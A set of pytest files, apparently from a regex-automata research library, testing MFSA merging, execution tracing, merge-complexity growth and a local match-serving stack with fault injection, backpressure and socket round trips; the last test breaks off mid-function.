SOAK_EXAMPLES = int(os.environ.get("REPRO_SOAK_EXAMPLES", "25"))
from repro.mfsa.model import Mfsa
from repro.testing import (
    DEFAULT_ALPHABET as TEST_ALPHABET,
    ere_patterns,
    random_patterns as random_ruleset,
    seed_all,
    subject_strings as input_strings,
)

__all__ = [
    "TEST_ALPHABET",
    "ere_patterns",
    "input_strings",
    "random_ruleset",
    "mfsa_equal",
    "compile_ruleset_fsas",
]


# ---------------------------------------------------------------------------
# Test isolation (autouse)
# ---------------------------------------------------------------------------


@pytest.fixture(autouse=True)
def _seeded_rng():
    """Every test starts from the same RNG state (see repro.testing.seed_all)."""
    seed_all()
    yield


@pytest.fixture(autouse=True)
def _obs_and_fault_isolation():
    """No test can leak global observability or fault-injection state.

    Saves the obs switchboard (active tracer/registry + sampling stride)
    and the armed fault points before each test, restores them after —
    a test that enables metrics, tweaks the stride, or arms
    ``engine.step_delay`` and then dies mid-way cannot poison the rest
    of the run.
    """
    saved_tracer = obs.get_tracer()
    saved_registry = obs.get_registry()
    saved_stride = obs.sample_stride()
    saved_faults = {point: faultinject.value(point) for point in faultinject.active_points()}
    yield
    # Restore the exact pre-test switchboard (including "off").
    if saved_tracer is not None:
        obs_spans.enable(saved_tracer)
    else:
        obs_spans.disable()
    if saved_registry is not None:
        obs_metrics.enable(saved_registry)
    else:
        obs_metrics.disable()
    obs.set_sample_stride(saved_stride)
    faultinject.clear()
    for point, arg in saved_faults.items():
        faultinject.arm(point, arg)


# ---------------------------------------------------------------------------
# Helpers
# ---------------------------------------------------------------------------


def mfsa_equal(a: Mfsa, b: Mfsa) -> bool:
    """Structural MFSA equality up to transition order."""
    return (
        a.num_states == b.num_states
        and a.initials == b.initials
        and a.finals == b.finals
        and {(t.src, t.dst, t.label.mask, t.bel) for t in a.transitions}
        == {(t.src, t.dst, t.label.mask, t.bel) for t in b.transitions}
    )


def compile_ruleset_fsas(patterns: list[str]):
    """(rule_id, optimised FSA) pairs for a list of patterns."""
    return [(i, compile_re_to_fsa(p)) for i, p in enumerate(patterns)]


@pytest.fixture
def small_ruleset():
    """A tiny mixed ruleset exercising most constructs."""
    return [
        "abc",
        "a(b|c)d",
        "[a-c]+x",
        "ab{2,3}c",
        "k(fg)*h",
        "x.*y",
    ]
