"""Shared fixtures and helpers for the test suite.

The hypothesis strategies live in the *public* :mod:`repro.testing`
module (they are part of the library's API for downstream fuzzing); this
conftest re-exports them under the names the tests use.
"""

from __future__ import annotations

import os

import pytest
from hypothesis import settings as hypothesis_settings

from repro.automata.optimize import compile_re_to_fsa

# Hypothesis baseline profile (per-test @settings still override it).
hypothesis_settings.register_profile("default", deadline=None)
hypothesis_settings.load_profile("default")

#: Example count for the dedicated soak tests (tests/test_soak.py):
#: REPRO_SOAK_EXAMPLES=2000 turns them into a long confidence run.
SOAK_EXAMPLES = int(os.environ.get("REPRO_SOAK_EXAMPLES", "25"))
from repro.mfsa.model import Mfsa
from repro.testing import (
    DEFAULT_ALPHABET as TEST_ALPHABET,
    ere_patterns,
    random_patterns as random_ruleset,
    subject_strings as input_strings,
)

__all__ = [
    "TEST_ALPHABET",
    "ere_patterns",
    "input_strings",
    "random_ruleset",
    "mfsa_equal",
    "compile_ruleset_fsas",
]


# ---------------------------------------------------------------------------
# Helpers
# ---------------------------------------------------------------------------


def mfsa_equal(a: Mfsa, b: Mfsa) -> bool:
    """Structural MFSA equality up to transition order."""
    return (
        a.num_states == b.num_states
        and a.initials == b.initials
        and a.finals == b.finals
        and {(t.src, t.dst, t.label.mask, t.bel) for t in a.transitions}
        == {(t.src, t.dst, t.label.mask, t.bel) for t in b.transitions}
    )


def compile_ruleset_fsas(patterns: list[str]):
    """(rule_id, optimised FSA) pairs for a list of patterns."""
    return [(i, compile_re_to_fsa(p)) for i, p in enumerate(patterns)]


@pytest.fixture
def small_ruleset():
    """A tiny mixed ruleset exercising most constructs."""
    return [
        "abc",
        "a(b|c)d",
        "[a-c]+x",
        "ab{2,3}c",
        "k(fg)*h",
        "x.*y",
    ]
