"""Tests for execution tracing, including the paper's Fig. 6 walk-through."""

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.automata.optimize import compile_re_to_fsa
from repro.engine.imfant import IMfantEngine
from repro.engine.trace import ExecutionTrace, trace_execution
from repro.mfsa.merge import merge_fsas

from conftest import compile_ruleset_fsas, ere_patterns, input_strings


class TestFig6Walkthrough:
    """The paper's Fig. 6 narrative, machine-checked: z from
    a1 = (ad|cb)ab (rule 1) and a2 = a(b|c) (rule 2), input acbab."""

    def setup_method(self):
        mfsa = merge_fsas([(1, compile_re_to_fsa("(ad|cb)ab")),
                           (2, compile_re_to_fsa("a(b|c)"))])
        self.trace = trace_execution(mfsa, "acbab")

    def test_five_steps(self):
        assert len(self.trace) == 5

    def test_step1_activates_both_rules(self):
        """Reading 'a' starts match attempts for both rules and fires
        nothing.  (Our merger shares the two rules' 'a' openers in one
        state with J={1,2}; the paper's drawing keeps them separate —
        both satisfy the activation semantics.)"""
        step = self.trace.steps[0]
        active_rules = {r for rules in step.activation.values() for r in rules}
        assert active_rules == {1, 2}
        assert step.fired == ()

    def test_step2_match_for_rule2(self):
        """Reading 'c': ac completes a(b|c) — a match for rule 2 only."""
        step = self.trace.steps[1]
        assert {rule for rule, _ in step.fired} == {2}

    def test_step3_shared_state_activates_both(self):
        """Reading 'b': the path reaches the shared state that is also
        rule 2's initial — its activation set becomes {1, 2}."""
        step = self.trace.steps[2]
        assert (1, 2) in step.activation.values() or (
            # rule 2's initial may be a distinct state; then J={1} at the
            # cb-branch state is the expected activation
            (1,) in step.activation.values()
        )
        assert step.fired == ()

    def test_step5_match_for_both(self):
        """Final 'b': cbab completes rule 1 and ab completes rule 2."""
        step = self.trace.steps[4]
        assert {rule for rule, _ in step.fired} == {1, 2}

    def test_trace_matches_equal_engine(self):
        mfsa = merge_fsas([(1, compile_re_to_fsa("(ad|cb)ab")),
                           (2, compile_re_to_fsa("a(b|c)"))])
        assert self.trace.matches() == IMfantEngine(mfsa).run("acbab").matches


class TestTraceApi:
    def test_describe_renders_every_step(self):
        mfsa = merge_fsas(compile_ruleset_fsas(["ab"]))
        text = trace_execution(mfsa, "ab").describe()
        assert "@1 'a'" in text and "@2 'b'" in text
        assert "MATCH rule 0" in text

    def test_describe_nonprintable(self):
        mfsa = merge_fsas(compile_ruleset_fsas(["\\x01"]))
        text = trace_execution(mfsa, bytes([1])).describe()
        assert "\\x01" in text

    def test_dead_step_reported(self):
        mfsa = merge_fsas(compile_ruleset_fsas(["ab"]))
        trace = trace_execution(mfsa, "az")
        assert trace.steps[1].activation == {}
        assert "discarded" in trace.steps[1].describe()


class TestTraceJsonRoundTrip:
    def test_round_trip_preserves_steps_exactly(self):
        mfsa = merge_fsas([(1, compile_re_to_fsa("(ad|cb)ab")),
                           (2, compile_re_to_fsa("a(b|c)"))])
        trace = trace_execution(mfsa, "acbab")
        restored = ExecutionTrace.from_json(trace.to_json())
        assert len(restored) == len(trace)
        for original, loaded in zip(trace.steps, restored.steps):
            assert loaded.position == original.position
            assert loaded.byte == original.byte
            assert loaded.activation == original.activation
            assert loaded.fired == original.fired
        assert restored.matches() == trace.matches()

    def test_round_trip_restores_in_memory_types(self):
        mfsa = merge_fsas(compile_ruleset_fsas(["ab"]))
        restored = ExecutionTrace.from_json(trace_execution(mfsa, "ab").to_json())
        step = restored.steps[-1]
        assert all(isinstance(q, int) for q in step.activation)
        assert all(isinstance(rules, tuple) for rules in step.activation.values())
        assert all(isinstance(f, tuple) for f in step.fired)

    def test_empty_trace_round_trips(self):
        mfsa = merge_fsas(compile_ruleset_fsas(["ab"]))
        trace = trace_execution(mfsa, "")
        restored = ExecutionTrace.from_json(trace.to_json())
        assert len(restored) == 0

    def test_from_json_rejects_malformed_documents(self):
        import pytest

        with pytest.raises(ValueError):
            ExecutionTrace.from_json("[]")
        with pytest.raises(ValueError):
            ExecutionTrace.from_json("{}")


@given(st.lists(ere_patterns(), min_size=1, max_size=3), input_strings())
@settings(max_examples=60, deadline=None)
def test_trace_matches_equal_engine_property(patterns, text):
    mfsa = merge_fsas(compile_ruleset_fsas(patterns))
    trace = trace_execution(mfsa, text)
    engine_matches = IMfantEngine(mfsa).run(text).matches
    # the trace records only arc-driven matches: it cannot see the
    # everywhere-matches of ε-accepting rules (no arc fires for them)
    empty_rules = {r for r, q0 in mfsa.initials.items() if q0 in mfsa.finals[r]}
    comparable = {(r, e) for r, e in engine_matches if r not in empty_rules}
    traced = {(r, e) for r, e in trace.matches() if r not in empty_rules}
    assert traced == comparable
