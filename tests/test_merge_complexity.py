"""Empirical validation of the merging complexity estimate (paper Eq. 3).

The paper approximates Algorithm 1 as O((4M·N_TS² + 8N_TS³)(M−1)) — the
dominant effect being superlinear growth of comparison work with the
merging factor.  These tests check the *measured* counter growth follows
that direction (without pinning brittle constants).
"""

import pytest

from repro.mfsa.merge import MergeReport, merge_ruleset

from conftest import compile_ruleset_fsas, random_ruleset


@pytest.fixture(scope="module")
def ruleset():
    return compile_ruleset_fsas(random_ruleset(seed=42, count=24))


def comparisons_at(ruleset, m: int) -> int:
    report = MergeReport()
    merge_ruleset(ruleset, m, report=report)
    return report.label_comparisons


class TestComplexityGrowth:
    def test_comparisons_grow_with_m(self, ruleset):
        series = [comparisons_at(ruleset, m) for m in (2, 4, 8, 0)]
        assert series == sorted(series)
        assert series[-1] > series[0]

    def test_superlinear_in_m(self, ruleset):
        """Per-group work grows faster than linearly: merging all 24 REs
        costs more than 3x merging them in groups of 8."""
        groups_of_8 = comparisons_at(ruleset, 8)
        merged_all = comparisons_at(ruleset, 0)
        assert merged_all > groups_of_8

    def test_m1_costs_nothing(self, ruleset):
        assert comparisons_at(ruleset, 1) == 0

    def test_walk_steps_bounded_by_comparisons(self, ruleset):
        report = MergeReport()
        merge_ruleset(ruleset, 0, report=report)
        # every walk step triggers at least one label comparison (seed or
        # successor search), so steps cannot exceed comparisons + seeds
        assert report.walk_steps <= report.label_comparisons + report.merging_structures

    def test_seed_cap_bounds_comparisons(self, ruleset):
        capped = MergeReport()
        merge_ruleset(ruleset, 0, report=capped, seed_cap=2)
        full = MergeReport()
        merge_ruleset(ruleset, 0, report=full, seed_cap=None)
        assert capped.label_comparisons <= full.label_comparisons
