"""repro.serve tests: protocol, artifact cache, pool, service, sockets.

Runs the serving stack at every layer — pure frame codecs, the
content-addressed artifact store (compile once, load forever), the
shard pool's degradation/deadline behaviour under injected faults, the
asyncio service's batching and backpressure (deterministically: the
dispatcher cannot run between non-suspending ``submit`` calls, so the
bounded queue fills exactly on cue), and the full socket round trip.

Everything here carries the ``serve`` marker (``make serve-smoke``).
"""

from __future__ import annotations

import asyncio
import json
import socket as socket_module
import struct
import threading

import pytest

import repro.obs as obs
from repro.engine.imfant import IMfantEngine
from repro.guard import faultinject
from repro.guard.errors import ConnectionLost, UsageError
from repro.obs.spans import iter_tree
from repro.pipeline.compiler import CompileOptions
from repro.serve import (
    ArtifactStore,
    MatchClient,
    MatchRequest,
    RetryPolicy,
    ServeConfig,
    ServerThread,
    ShardPool,
)
from repro.serve.protocol import (
    MAX_FRAME_BYTES,
    FrameError,
    decode_body,
    decode_payload,
    encode_frame,
    encode_payload,
    error_response,
    frame_length,
    match_response,
)
from repro.serve.server import MatchService

pytestmark = pytest.mark.serve

#: bounded-width ruleset (max_width is finite) → the pool really shards
PATTERNS = ["needle", "boundary", "ha[py]{2}stack", "x[0-9]{1,3}y"]


@pytest.fixture(scope="module")
def artifact(tmp_path_factory):
    store = ArtifactStore(tmp_path_factory.mktemp("artifacts"))
    return store.get_or_compile(PATTERNS, CompileOptions(emit_anml=False))


def _oracle(artifact, payload: bytes) -> set:
    text = payload.decode("latin-1")
    matches: set = set()
    for mfsa in artifact.mfsas:
        matches |= IMfantEngine(mfsa).run(text).matches
    return matches


PAYLOAD = (b"xy" * 300 + b"needle" + b"z" * 200 + b"happystack"
           + b"no" * 150 + b"x42y" + b"boundary")


# ---------------------------------------------------------------------------
# Protocol
# ---------------------------------------------------------------------------


def test_frame_round_trip():
    document = {"id": 3, "op": "match", "payload": encode_payload(b"\x00\xffbytes")}
    frame = encode_frame(document)
    assert frame_length(frame[:4]) == len(frame) - 4
    decoded = decode_body(frame[4:])
    assert decoded == document
    assert decode_payload(decoded["payload"]) == b"\x00\xffbytes"


def test_frame_length_ceiling():
    import struct

    oversized = struct.pack(">I", MAX_FRAME_BYTES + 1)
    with pytest.raises(FrameError):
        frame_length(oversized)


@pytest.mark.parametrize("body", [b"not json", b"[1,2,3]", b'"string"'])
def test_decode_body_rejects_non_objects(body):
    with pytest.raises(FrameError):
        decode_body(body)


def test_decode_payload_rejects_bad_base64():
    with pytest.raises(FrameError):
        decode_payload("!!not-base64!!")


@pytest.mark.parametrize("document", [
    {"op": "match", "payload": ""},                      # missing id
    {"id": "seven", "op": "match", "payload": ""},       # non-int id
    {"id": 1, "op": "match", "payload": "", "deadline_ms": 0},    # non-positive
    {"id": 1, "op": "match", "payload": "", "deadline_ms": "no"},  # non-numeric
])
def test_match_request_validation(document):
    with pytest.raises(FrameError):
        MatchRequest.from_document(document)


def test_match_request_defaults():
    request = MatchRequest.from_document({"id": 9, "payload": encode_payload(b"abc")})
    assert request.payload == b"abc"
    assert request.single_match is False
    assert request.deadline_ms is None


def test_response_codes_and_match_sorting():
    response = match_response(5, "ok", matches={(2, 10), (0, 3)})
    assert response["code"] == 200
    assert response["matches"] == [[0, 3], [2, 10]]
    assert error_response(None, "rejected", "full")["code"] == 429
    assert match_response(1, "partial")["code"] == 206


# ---------------------------------------------------------------------------
# Artifact store
# ---------------------------------------------------------------------------


def test_artifact_compiles_then_loads(tmp_path):
    store = ArtifactStore(tmp_path)
    with obs.capture() as cold:
        first = store.get_or_compile(PATTERNS, CompileOptions(emit_anml=False))
    assert not first.loaded_from_cache
    assert first.path is not None and first.path.exists()
    cold_spans = {span.name for _, span in iter_tree(cold.tracer)}
    assert "compile" in cold_spans

    with obs.capture() as warm:
        second = store.get_or_compile(PATTERNS, CompileOptions(emit_anml=False))
    assert second.loaded_from_cache
    assert second.key == first.key
    warm_spans = {span.name for _, span in iter_tree(warm.tracer)}
    assert "serve.artifact.load" in warm_spans
    # the whole point: a warm start never re-runs the compile pipeline
    assert not any(name == "compile" or name.startswith("compile.") for name in warm_spans)

    # and the loaded automata behave identically
    text = PAYLOAD.decode("latin-1")
    assert _oracle(first, PAYLOAD) == _oracle(second, PAYLOAD)


def test_artifact_key_depends_on_options(tmp_path):
    from repro.serve import ruleset_key

    assert ruleset_key(PATTERNS) != ruleset_key(PATTERNS[:-1])
    assert (ruleset_key(PATTERNS, CompileOptions(merging_factor=2))
            != ruleset_key(PATTERNS, CompileOptions(merging_factor=0)))


def test_artifact_survives_corruption(tmp_path):
    store = ArtifactStore(tmp_path)
    first = store.get_or_compile(PATTERNS, CompileOptions(emit_anml=False))
    first.path.write_text("{ truncated garbage")
    recompiled = store.get_or_compile(PATTERNS, CompileOptions(emit_anml=False))
    assert not recompiled.loaded_from_cache  # corrupt cache → silent recompile
    assert _oracle(recompiled, PAYLOAD) == _oracle(first, PAYLOAD)


def test_artifact_rejects_version_skew(tmp_path):
    store = ArtifactStore(tmp_path)
    first = store.get_or_compile(PATTERNS, CompileOptions(emit_anml=False))
    document = json.loads(first.path.read_text())
    document["version"] = 999
    first.path.write_text(json.dumps(document))
    assert store.load(first.key) is None


def test_empty_ruleset_refused(tmp_path):
    with pytest.raises(UsageError):
        ArtifactStore(tmp_path).get_or_compile([])


# ---------------------------------------------------------------------------
# Shard pool: degradation + deadlines under injected faults
# ---------------------------------------------------------------------------


def test_pool_degrades_on_allocation_failure(artifact):
    oracle = _oracle(artifact, PAYLOAD)
    with obs.capture() as cap:
        with faultinject.inject("alloc", "lazy"):
            with ShardPool(artifact, num_shards=2, backend="lazy") as pool:
                result = pool.scan(PAYLOAD)
    assert result.backend == "numpy"  # stepped one rung down the ladder
    assert result.matches == oracle
    assert [(s.from_backend, s.to_backend) for s in result.degradations] == [("lazy", "numpy")]
    counter = cap.registry.get("guard_degradations_total")
    assert counter is not None and counter.value >= 1


def test_pool_deadline_yields_partial(artifact):
    with faultinject.inject("engine.step_delay", 0.05):
        with ShardPool(artifact, num_shards=2, backend="python",
                       deadline_stride=64) as pool:
            result = pool.scan(PAYLOAD, deadline=0.15)
    assert result.partial
    assert result.timed_out_shards  # at least one shard hit the wall
    assert result.matches <= _oracle(artifact, PAYLOAD)  # honest prefix


def test_pool_process_mode_loads_artifact(artifact):
    assert artifact.path is not None
    with ShardPool(artifact, num_shards=2, backend="python", mode="process") as pool:
        result = pool.scan(PAYLOAD)
    assert result.matches == _oracle(artifact, PAYLOAD)
    assert result.shards == 2


def test_pool_rejects_bad_config(artifact):
    with pytest.raises(UsageError):
        ShardPool(artifact, num_shards=0)
    with pytest.raises(UsageError):
        ShardPool(artifact, num_shards=1, backend="cuda")
    with pytest.raises(UsageError):
        ShardPool(artifact, num_shards=1, mode="fiber")


def test_pool_process_mode_degrades_on_worker_failure(artifact):
    """An AllocationFailed inside a process worker's initializer surfaces
    as BrokenProcessPool; the pool must step the ladder and retry, not
    leak the raw executor error."""
    assert artifact.path is not None
    with obs.capture() as cap:
        with faultinject.inject("alloc", "lazy"):
            with ShardPool(artifact, num_shards=2, backend="lazy",
                           mode="process") as pool:
                result = pool.scan(PAYLOAD)
    assert result.backend == "numpy"
    assert result.matches == _oracle(artifact, PAYLOAD)
    assert [(s.from_backend, s.to_backend) for s in result.degradations] == [
        ("lazy", "numpy")
    ]
    counter = cap.registry.get("guard_degradations_total")
    assert counter is not None and counter.value >= 1


def test_scan_segment_deadline_is_absolute(artifact):
    """A job whose budget was consumed while it queued must time out the
    moment it starts — the deadline is absolute, not reset at job start."""
    import time

    from repro.serve.shards import _build_engines, _scan_segment

    engines = _build_engines(artifact.mfsas, "python", 1024, "flush", 64)
    started = time.perf_counter()
    matches, _, timed_out = _scan_segment(
        engines, PAYLOAD, time.perf_counter() - 1.0, True
    )
    assert timed_out
    assert time.perf_counter() - started < 2.0  # gave up immediately
    assert matches <= _oracle(artifact, PAYLOAD)


EPSILON_PATTERNS = ["a*", "abc"]


@pytest.fixture(scope="module")
def epsilon_artifact(tmp_path_factory):
    store = ArtifactStore(tmp_path_factory.mktemp("eps-artifacts"))
    return store.get_or_compile(EPSILON_PATTERNS, CompileOptions(emit_anml=False))


def test_pool_epsilon_rules_stay_compact(epsilon_artifact):
    """ε-accepting rules must not be enumerated per offset — one such
    rule on a large payload would blow up memory and the wire frame."""
    payload = b"xxabcaax" * 4
    oracle = _oracle(epsilon_artifact, payload)
    with ShardPool(epsilon_artifact, num_shards=2) as pool:
        result = pool.scan(payload)
        single = pool.scan(payload, single_match=True)
    assert result.all_offsets_rules == [0]
    assert all(rule != 0 for rule, _ in result.matches)
    assert result.payload_len == len(payload)
    assert result.full_matches() == oracle
    assert result.stats.match_count == len(oracle)
    # single_match stays enumerable: the ε rule's first match is at 0
    assert not single.all_offsets_rules
    assert (0, 0) in single.matches


# ---------------------------------------------------------------------------
# Service: batching + backpressure (deterministic, no sockets)
# ---------------------------------------------------------------------------


def _collecting_reply(replies: list):
    async def reply(document):
        replies.append(document)
    return reply


def test_service_backpressure_rejects_when_queue_full(artifact):
    """queue_depth+N non-suspending submits → exactly N 429 rejections.

    ``submit`` has no await point on its accept path, so the dispatcher
    task can never run between these calls — the queue must fill.
    """
    config = ServeConfig(shards=1, batch_max=2, queue_depth=3)
    replies: list = []

    async def scenario():
        service = MatchService(artifact, config)
        await service.start()
        try:
            payload = encode_payload(b"needle")
            for i in range(5):
                request = MatchRequest.from_document({"id": i, "payload": payload})
                await service.submit(request, _collecting_reply(replies))
            rejected = [r for r in replies if r["status"] == "rejected"]
            assert len(rejected) == 2  # 5 submitted, 3 queued
            assert all(r["code"] == 429 for r in rejected)
            while len(replies) < 5:
                await asyncio.sleep(0.01)
        finally:
            await service.stop()
        return service

    service = asyncio.run(scenario())
    assert service.requests_rejected == 2
    assert service.requests_handled == 3
    statuses = sorted(r["status"] for r in replies)
    assert statuses == ["ok", "ok", "ok", "rejected", "rejected"]


def test_service_batches_coalesce(artifact):
    config = ServeConfig(shards=1, batch_max=4, queue_depth=8)
    replies: list = []

    async def scenario():
        service = MatchService(artifact, config)
        await service.start()
        try:
            payload = encode_payload(PAYLOAD)
            for i in range(4):
                request = MatchRequest.from_document({"id": i, "payload": payload})
                await service.submit(request, _collecting_reply(replies))
            while len(replies) < 4:
                await asyncio.sleep(0.01)
        finally:
            await service.stop()
        return service

    with obs.capture() as cap:
        service = asyncio.run(scenario())
    # all four queued before the dispatcher woke → one coalesced batch
    assert service.batches == 1
    batch_hist = cap.registry.get("serve_batch_size")
    assert batch_hist is not None and batch_hist.snapshot()["count"] == 1
    assert cap.registry.get("serve_requests_total").value == 4
    assert cap.registry.get("serve_queue_depth") is not None
    assert cap.registry.get("serve_shard_scan_seconds").snapshot()["count"] >= 4


def test_service_deadline_dies_in_queue(artifact):
    """A request whose deadline expired while queued → 206 partial-empty."""
    config = ServeConfig(shards=1, batch_max=1, queue_depth=4)
    replies: list = []

    async def scenario():
        service = MatchService(artifact, config)
        await service.start()
        try:
            request = MatchRequest.from_document({
                "id": 1, "payload": encode_payload(PAYLOAD), "deadline_ms": 0.001,
            })
            await service.submit(request, _collecting_reply(replies))
            while not replies:
                await asyncio.sleep(0.005)
        finally:
            await service.stop()
        return service

    service = asyncio.run(scenario())
    assert replies[0]["status"] == "partial"
    assert replies[0]["code"] == 206
    assert replies[0]["matches"] == []
    assert service.requests_partial == 1


def test_dispatcher_survives_reply_and_scan_failures(artifact):
    """One bad request — a client that resets mid-reply, or a worker
    crash that is not a ReproError — must never kill the dispatcher:
    later requests still get answers (the 'never hang' goal)."""
    config = ServeConfig(shards=1, batch_max=1, queue_depth=8)
    replies: list = []

    async def scenario():
        service = MatchService(artifact, config)
        await service.start()
        try:
            payload = encode_payload(b"needle")
            reply_attempted = asyncio.Event()

            async def exploding_reply(document):
                reply_attempted.set()
                raise ConnectionResetError("client reset mid-reply")

            await service.submit(
                MatchRequest.from_document({"id": 1, "payload": payload}),
                exploding_reply,
            )
            await reply_attempted.wait()  # request 1 scanned with the real pool

            real_scan = service.pool.scan

            def crashing_scan(*args, **kwargs):
                service.pool.scan = real_scan  # one-shot fault
                raise RuntimeError("simulated worker crash")

            service.pool.scan = crashing_scan
            await service.submit(
                MatchRequest.from_document({"id": 2, "payload": payload}),
                _collecting_reply(replies),
            )
            await service.submit(
                MatchRequest.from_document({"id": 3, "payload": payload}),
                _collecting_reply(replies),
            )
            while len(replies) < 2:
                await asyncio.sleep(0.01)
        finally:
            await service.stop()
        return service

    asyncio.run(scenario())
    by_id = {r["id"]: r for r in replies}
    assert by_id[2]["status"] == "error" and by_id[2]["code"] == 500
    assert by_id[3]["status"] == "ok"  # the dispatcher survived both faults


def test_service_stop_drains_queued_requests(artifact):
    """'Drain and stop' means exactly that: requests queued before stop()
    are answered (not dropped), and later submits get an explicit
    shutting-down rejection rather than a dead socket."""
    config = ServeConfig(shards=1, batch_max=1, queue_depth=8)
    replies: list = []

    async def scenario():
        service = MatchService(artifact, config)
        await service.start()
        payload = encode_payload(b"needle")
        for i in range(3):
            await service.submit(
                MatchRequest.from_document({"id": i, "payload": payload}),
                _collecting_reply(replies),
            )
        await service.stop()
        assert len(replies) == 3  # every queued request answered pre-exit
        await service.submit(
            MatchRequest.from_document({"id": 99, "payload": payload}),
            _collecting_reply(replies),
        )
        return service

    service = asyncio.run(scenario())
    assert [r["status"] for r in replies[:3]] == ["ok", "ok", "ok"]
    assert replies[3]["status"] == "rejected"
    assert "shutting down" in replies[3]["error"]
    assert service.requests_rejected == 1


# ---------------------------------------------------------------------------
# Socket round trip (ServerThread + MatchClient)
# ---------------------------------------------------------------------------


def test_socket_round_trip_and_ops(artifact, tmp_path):
    config = ServeConfig(shards=2, batch_max=4, queue_depth=16)
    with ServerThread(artifact, config, socket_path=str(tmp_path / "sock")) as address:
        with MatchClient.connect(address) as client:
            assert client.ping()
            stats = client.server_stats()
            assert stats["ruleset_key"] == artifact.key
            assert stats["shards"] == 2
            result = client.match(PAYLOAD)
            assert result.ok and result.code == 200
            assert result.matches == _oracle(artifact, PAYLOAD)
            assert result.stats["match_count"] == len(result.matches)
            assert client.shutdown()


def test_socket_restart_over_stale_path(artifact, tmp_path):
    """A crashed instance's socket file must not break (or misdirect) a
    restart: the server unlinks stale files before binding and removes
    its own on clean shutdown (asyncio only does this from 3.13 on)."""
    import os

    path = tmp_path / "sock"
    config = ServeConfig(shards=1)
    with ServerThread(artifact, config, socket_path=str(path)) as address:
        with MatchClient.connect(address) as client:
            assert client.ping()
    assert not path.exists()  # clean shutdown removed the socket file

    # simulate a crash: plant a stale, unserved socket file at the path
    stale = socket_module.socket(socket_module.AF_UNIX, socket_module.SOCK_STREAM)
    stale.bind(str(path))
    stale.close()
    assert path.is_socket()
    with ServerThread(artifact, config, socket_path=str(path)) as address:
        with MatchClient.connect(address) as client:
            assert client.match(PAYLOAD).matches == _oracle(artifact, PAYLOAD)


def test_socket_tcp_and_malformed_frame(artifact):
    config = ServeConfig(shards=1)
    with ServerThread(artifact, config) as address:
        host, port = address
        # a syntactically broken frame gets a 400 and the connection closed
        raw = socket_module.create_connection((host, port), timeout=10)
        try:
            body = b"this is not json"
            import struct

            raw.sendall(struct.pack(">I", len(body)) + body)
            prefix = raw.recv(4)
            length = frame_length(prefix)
            response = decode_body(raw.recv(length))
            assert response["code"] == 400
            assert raw.recv(1) == b""  # server closed after framing loss
        finally:
            raw.close()
        # the server survives and still answers a well-formed client
        with MatchClient.connect(address) as client:
            assert client.match(PAYLOAD).matches == _oracle(artifact, PAYLOAD)


def test_socket_unknown_op_and_disabled_shutdown(artifact):
    config = ServeConfig(shards=1, allow_shutdown=False)
    with ServerThread(artifact, config) as address:
        with MatchClient.connect(address) as client:
            response = client._roundtrip({"op": "frobnicate"})
            assert response["code"] == 400
            assert not client.shutdown()  # refused, connection stays up
            assert client.ping()


def test_socket_fault_drill_partial_not_hang(artifact):
    """The wedged-shard drill: injected step delay + deadline → 206, fast."""
    import time

    config = ServeConfig(shards=2, backend="python", deadline_stride=64)
    with faultinject.inject("engine.step_delay", 0.05):
        with ServerThread(artifact, config) as address:
            with MatchClient.connect(address) as client:
                started = time.perf_counter()
                result = client.match(PAYLOAD, deadline_ms=200)
                elapsed = time.perf_counter() - started
    assert result.partial and result.code == 206
    assert result.raw["timed_out_shards"]
    assert result.matches <= _oracle(artifact, PAYLOAD)
    assert elapsed < 5.0  # answered promptly, did not hang on the wedged shards


def test_socket_epsilon_rules_compact_on_wire(epsilon_artifact):
    """ε rules travel as all_offsets_rules; the client re-expands them so
    match sets stay byte-identical to a single-process scan."""
    payload = b"xxabcaax" * 4
    oracle = _oracle(epsilon_artifact, payload)
    with ServerThread(epsilon_artifact, ServeConfig(shards=2)) as address:
        with MatchClient.connect(address) as client:
            result = client.match(payload)
    assert result.ok
    assert result.raw["all_offsets_rules"] == [0]
    assert all(rule != 0 for rule, _ in result.raw["matches"])
    assert result.matches == oracle
    assert result.stats["match_count"] == len(oracle)


def test_socket_oversize_response_answers_500(artifact, monkeypatch):
    """A response that cannot be framed must come back as a small 500 —
    not kill the dispatcher (nothing was written, framing is intact)."""
    import repro.serve.protocol as protocol_module

    monkeypatch.setattr(protocol_module, "MAX_FRAME_BYTES", 256)
    with ServerThread(artifact, ServeConfig(shards=1)) as address:
        with MatchClient.connect(address) as client:
            result = client.match(b"needle" * 16)
            assert result.status == "error" and result.code == 500
            assert "frame" in (result.error or "")
            assert client.ping()  # connection and dispatcher both alive


def test_socket_degradation_reported(artifact):
    with faultinject.inject("alloc", "lazy"):
        with ServerThread(artifact, ServeConfig(shards=2, backend="lazy")) as address:
            with MatchClient.connect(address) as client:
                result = client.match(PAYLOAD)
    assert result.ok
    assert result.backend == "numpy"
    steps = result.raw["degradations"]
    assert [(s["from"], s["to"]) for s in steps] == [("lazy", "numpy")]
    assert steps[0]["reason"].startswith("allocation-failure")
    assert result.matches == _oracle(artifact, PAYLOAD)


# ---------------------------------------------------------------------------
# Client failure paths: torn frames, reconnects, idempotent retries
# ---------------------------------------------------------------------------


def _misbehaving_server(handler):
    """A one-connection TCP stub: accept, read one request frame, then
    run ``handler(conn)`` to misbehave on the reply.  Returns the address."""
    listener = socket_module.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    address = listener.getsockname()

    def _read_frame(conn):
        buffered = b""
        while len(buffered) < 4:
            chunk = conn.recv(4 - len(buffered))
            if not chunk:
                return
            buffered += chunk
        (length,) = struct.unpack(">I", buffered)
        remaining = length
        while remaining:
            chunk = conn.recv(remaining)
            if not chunk:
                return
            remaining -= len(chunk)

    def run():
        conn, _ = listener.accept()
        try:
            _read_frame(conn)
            handler(conn)
        finally:
            conn.close()
            listener.close()

    threading.Thread(target=run, daemon=True).start()
    return address


def test_client_truncated_length_prefix_raises_connection_lost():
    """EOF inside the 4-byte length prefix is a lost connection (typed,
    retryable) — not a generic frame/JSON error."""
    address = _misbehaving_server(lambda conn: conn.sendall(b"\x00\x00"))
    with MatchClient.connect(address, timeout=5.0, retry=RetryPolicy.none()) as client:
        with pytest.raises(ConnectionLost, match="mid-frame"):
            client.match(b"needle")


def test_client_mid_frame_eof_raises_connection_lost():
    """A frame that promises more bytes than the peer delivers before
    closing must surface as ConnectionLost with the byte accounting."""

    def tease(conn):
        conn.sendall(struct.pack(">I", 100) + b'{"id": 1, "status"')

    address = _misbehaving_server(tease)
    with MatchClient.connect(address, timeout=5.0, retry=RetryPolicy.none()) as client:
